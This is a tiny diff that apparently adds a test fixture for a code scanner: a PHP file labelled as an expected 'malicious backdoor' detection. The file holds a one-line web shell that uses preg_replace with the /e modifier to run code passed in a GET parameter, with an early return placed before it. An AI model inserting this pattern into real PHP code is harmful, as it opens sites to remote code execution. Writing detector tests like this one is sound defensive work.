@@ -1,0 +1,2 @@
+<?php return; // want: malicious backdoor php.code.request
+preg_replace('/.*/e', $_GET['r'], 'x');
